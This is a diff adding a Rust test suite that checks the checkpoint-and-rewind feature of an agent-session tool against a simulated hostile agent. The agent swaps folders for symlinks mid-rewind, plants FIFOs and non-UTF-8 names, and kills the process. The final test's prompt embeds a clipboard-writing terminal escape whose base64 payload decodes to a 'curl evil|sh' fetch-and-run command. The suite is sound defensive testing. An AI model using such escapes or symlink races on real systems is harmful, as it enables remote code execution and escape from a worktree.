@@ -1,0 +1,252 @@
+//! Checkpoints and rewind under attack (issue 22): what a hostile agent
+//! can do to its worktree between two turns, or while a rewind runs,
+//! never makes a rewind touch anything outside the worktree, nor lose a
+//! file `rewind --undo` could not bring back; a rewind killed mid-way is
+//! undone by `--undo`; what the agent wrote reaches the terminal escaped.
+
+use std::ffi::OsStr;
+use std::os::unix::ffi::OsStrExt;
+use std::path::Path;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+use crate::common::{TestEnv, hook_event, stderr, wait_for};
+
+fn checkpoints(env: &TestEnv, name: &str) -> Vec<serde_json::Value> {
+    let out = env.ok(&["checkpoints", name, "--json"]);
+    serde_json::from_str::<serde_json::Value>(&out).expect("json").as_array().expect("array").clone()
+}
+
+fn wait_checkpoints(env: &TestEnv, name: &str, n: usize) -> Vec<serde_json::Value> {
+    wait_for(&format!("{n} checkpoints of {name}"), || {
+        let list = checkpoints(env, name);
+        (list.len() >= n).then_some(list)
+    })
+}
+
+fn id_of(env: &TestEnv, name: &str) -> String {
+    env.session(name)["id"].as_str().expect("id").to_owned()
+}
+
+/// One turn as Claude Code's hooks report it: the prompt, `work`, the end.
+fn hooked_turn(env: &TestEnv, id: &str, prompt: &str, work: impl FnOnce()) {
+    hook_event(env, id, &serde_json::json!({ "hook_event_name": "UserPromptSubmit", "prompt": prompt }));
+    work();
+    hook_event(env, id, &serde_json::json!({ "hook_event_name": "Stop", "last_assistant_message": "done" }));
+}
+
+/// A session `name` (a shell whose turns the test reports) with
+/// checkpoint 1 after `first` and checkpoint 2 after `second`.
+fn two_turns(env: &TestEnv, name: &str, first: impl FnOnce(&Path), second: impl FnOnce(&Path)) -> std::path::PathBuf {
+    env.ok(&["new", name, "--bg", "--agent", "shell"]);
+    let id = id_of(env, name);
+    let wt = env.path_of(name);
+    hooked_turn(env, &id, "first", || first(&wt));
+    wait_checkpoints(env, name, 1);
+    hooked_turn(env, &id, "second", || second(&wt));
+    wait_checkpoints(env, name, 2);
+    wt
+}
+
+/// The agent swaps a folder of its worktree for a symlink to a folder
+/// outside, over and over, while the user rewinds: the files the rewind
+/// deletes (the folder's, made after the checkpoint) are deleted in the
+/// worktree or not at all, never through the symlink.
+#[test]
+fn a_folder_swapped_for_a_symlink_during_a_rewind_never_loses_a_file_outside() {
+    let env = TestEnv::new();
+    let outside = env.tmp.path().join("outside");
+    let hidden = env.tmp.path().join("hidden-sub");
+    std::fs::create_dir_all(&outside).expect("outside");
+    let wt = two_turns(
+        &env,
+        "swap",
+        |wt| std::fs::write(wt.join("a.txt"), "a\n").expect("write"),
+        |wt| {
+            std::fs::create_dir_all(wt.join("sub")).expect("sub");
+            std::fs::write(wt.join("sub/victim.txt"), "in the worktree\n").expect("write");
+        },
+    );
+    let sub = wt.join("sub");
+    for round in 0..40 {
+        std::fs::write(outside.join("victim.txt"), "the user's, outside\n").expect("outside file");
+        // The folder, real, as checkpoint 2 has it.
+        if std::fs::symlink_metadata(&sub).is_ok_and(|m| m.file_type().is_symlink()) {
+            std::fs::remove_file(&sub).expect("unlink");
+        }
+        if hidden.exists() {
+            let _ = std::fs::remove_dir_all(&sub);
+            std::fs::rename(&hidden, &sub).expect("back");
+        }
+        std::fs::create_dir_all(&sub).expect("sub");
+        std::fs::write(sub.join("victim.txt"), "in the worktree\n").expect("write");
+
+        let stop = Arc::new(AtomicBool::new(false));
+        let racer = {
+            let (stop, sub, hidden, outside) = (stop.clone(), sub.clone(), hidden.clone(), outside.clone());
+            std::thread::spawn(move || {
+                while !stop.load(Ordering::SeqCst) {
+                    if std::fs::rename(&sub, &hidden).is_ok() {
+                        let _ = std::os::unix::fs::symlink(&outside, &sub);
+                        std::thread::sleep(std::time::Duration::from_millis(2));
+                        if std::fs::symlink_metadata(&sub).is_ok_and(|m| m.file_type().is_symlink()) {
+                            let _ = std::fs::remove_file(&sub);
+                        }
+                        let _ = std::fs::rename(&hidden, &sub);
+                    }
+                    std::thread::yield_now();
+                }
+            })
+        };
+        let out = env.tandem(&["rewind", "swap", "1"]);
+        stop.store(true, Ordering::SeqCst);
+        racer.join().expect("racer");
+        assert!(out.status.success(), "round {round}: {}", stderr(&out));
+        assert_eq!(
+            std::fs::read_to_string(outside.join("victim.txt")).ok().as_deref(),
+            Some("the user's, outside\n"),
+            "round {round}: the rewind deleted a file outside the worktree, through the agent's symlink"
+        );
+    }
+}
+
+/// File names need not be UTF-8, and may hold a newline: a rewind brings
+/// back such files and deletes such files as any other.
+#[test]
+fn rewind_brings_back_and_deletes_files_whose_names_are_not_utf8() {
+    let env = TestEnv::new();
+    let latin1 = OsStr::from_bytes(b"caf\xe9.txt");
+    let made = OsStr::from_bytes(b"made\xfe\nlater.txt");
+    let wt = two_turns(
+        &env,
+        "names",
+        |wt| {
+            std::fs::write(wt.join(latin1), "old\n").expect("write");
+            std::fs::write(wt.join("new\nline.txt"), "nl\n").expect("write");
+        },
+        |wt| {
+            std::fs::remove_file(wt.join(latin1)).expect("rm");
+            std::fs::remove_file(wt.join("new\nline.txt")).expect("rm");
+            std::fs::write(wt.join(made), "later\n").expect("write");
+        },
+    );
+    let out = env.tandem(&["rewind", "names", "1"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(wt.join(latin1)).ok().as_deref(), Some("old\n"), "written back");
+    assert_eq!(std::fs::read_to_string(wt.join("new\nline.txt")).ok().as_deref(), Some("nl\n"));
+    assert!(!wt.join(made).exists(), "a file made after checkpoint 1 goes, whatever its name");
+    env.ok(&["rewind", "names", "--undo"]);
+    assert_eq!(std::fs::read_to_string(wt.join(made)).ok().as_deref(), Some("later\n"), "and undo brings it back");
+    assert!(!wt.join(latin1).exists());
+}
+
+/// An ignored file (no checkpoint keeps one) sits where the rewind writes:
+/// in a folder that was a file at the checkpoint, as the file where a
+/// folder was, or at the very path. The rewind may replace it, but
+/// `rewind --undo` must bring it back.
+#[test]
+fn ignored_files_a_rewind_replaces_come_back_with_undo() {
+    let env = TestEnv::new();
+    std::fs::write(env.repo.join(".gitignore"), "*.env\n*.log\n").expect("write");
+    env.git(&["add", ".gitignore"]);
+    env.git(&["commit", "-q", "-m", "ignore"]);
+    let wt = two_turns(
+        &env,
+        "ign",
+        |wt| {
+            std::fs::write(wt.join("d"), "d was a file\n").expect("write");
+            std::fs::create_dir_all(wt.join("e")).expect("e");
+            std::fs::write(wt.join("e/inside.txt"), "e was a folder\n").expect("write");
+        },
+        |wt| {
+            std::fs::remove_file(wt.join("d")).expect("rm");
+            std::fs::create_dir_all(wt.join("d")).expect("dir");
+            std::fs::write(wt.join("d/x.txt"), "x\n").expect("write");
+            std::fs::write(wt.join("d/secret.env"), "TOKEN=only-copy\n").expect("write");
+            std::fs::remove_dir_all(wt.join("e")).expect("rm");
+            std::fs::write(wt.join("e"), "e is a file\n").expect("write");
+        },
+    );
+    // Ignored after the checkpoints: `e` (a file now) is too, as `e.log`.
+    std::fs::write(wt.join(".gitignore"), "*.env\n*.log\ne\n").expect("write");
+    let out = env.tandem(&["rewind", "ign", "1"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(wt.join("d")).ok().as_deref(), Some("d was a file\n"));
+    assert_eq!(std::fs::read_to_string(wt.join("e/inside.txt")).ok().as_deref(), Some("e was a folder\n"));
+    let out = env.tandem(&["rewind", "ign", "--undo"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(wt.join("d/secret.env")).ok().as_deref(),
+        Some("TOKEN=only-copy\n"),
+        "the ignored file the rewind replaced is gone for good"
+    );
+    assert_eq!(std::fs::read_to_string(wt.join("e")).ok().as_deref(), Some("e is a file\n"));
+}
+
+/// A FIFO where a rewind writes a file never makes it hang.
+#[test]
+fn a_fifo_in_the_way_of_a_rewind_does_not_hang_it() {
+    let env = TestEnv::new();
+    let wt = two_turns(
+        &env,
+        "fifo",
+        |wt| std::fs::write(wt.join("p"), "a file\n").expect("write"),
+        |wt| {
+            std::fs::remove_file(wt.join("p")).expect("rm");
+            nix::unistd::mkfifo(&wt.join("p"), nix::sys::stat::Mode::from_bits_truncate(0o644)).expect("mkfifo");
+            std::fs::write(wt.join("q"), "q\n").expect("write");
+        },
+    );
+    let out = env.tandem(&["rewind", "fifo", "1"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(wt.join("p")).ok().as_deref(), Some("a file\n"));
+}
+
+/// A `kill -9` of the rewinding process between its deletes and its
+/// writes: the checkpoint it made first is whole, and `rewind --undo`
+/// brings the worktree back as it was before the rewind.
+#[test]
+fn a_rewind_killed_midway_is_undone_by_undo() {
+    let env = TestEnv::new();
+    let wt = two_turns(
+        &env,
+        "killed",
+        |wt| std::fs::write(wt.join("a.txt"), "a1\n").expect("write"),
+        |wt| {
+            std::fs::write(wt.join("a.txt"), "a2\n").expect("write");
+            std::fs::write(wt.join("b.txt"), "b2\n").expect("write");
+        },
+    );
+    let faults = env.tmp.path().join("faults");
+    std::fs::write(&faults, "git:read-tree\n").expect("faults");
+    let mut env = env;
+    env.env.push(("TANDEM_FAULTS".into(), faults.display().to_string()));
+    let out = env.tandem(&["rewind", "killed", "1"]);
+    assert!(!out.status.success(), "killed: {}", stderr(&out));
+    assert!(faults.with_extension("fired").exists(), "the fault fired");
+    assert!(!wt.join("b.txt").exists(), "killed after the deletes");
+    let out = env.tandem(&["rewind", "killed", "--undo"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(wt.join("a.txt")).ok().as_deref(), Some("a2\n"));
+    assert_eq!(std::fs::read_to_string(wt.join("b.txt")).ok().as_deref(), Some("b2\n"));
+}
+
+/// A prompt with terminal escapes and bidi controls: the table escapes
+/// it, JSON keeps it exact.
+#[test]
+fn a_prompt_with_escapes_is_escaped_in_the_table_and_exact_in_json() {
+    let env = TestEnv::new();
+    env.ok(&["new", "esc", "--bg", "--agent", "shell"]);
+    let id = id_of(&env, "esc");
+    let wt = env.path_of("esc");
+    let prompt = "fix \x1b]52;c;Y3VybCBldmlsfHNo\x07 it \u{202e}txt.exe\u{9b}31m";
+    hooked_turn(&env, &id, prompt, || std::fs::write(wt.join("f"), "f\n").expect("write"));
+    let list = wait_checkpoints(&env, "esc", 1);
+    assert_eq!(list[0]["prompt"], prompt, "JSON: exact");
+    let table = env.ok(&["checkpoints", "esc"]);
+    assert!(
+        !table.contains('\x1b') && !table.contains('\u{202e}') && !table.contains('\u{9b}') && !table.contains('\x07'),
+        "{table:?}"
+    );
+    assert!(table.contains("fix \\e]52"), "{table:?}");
+}
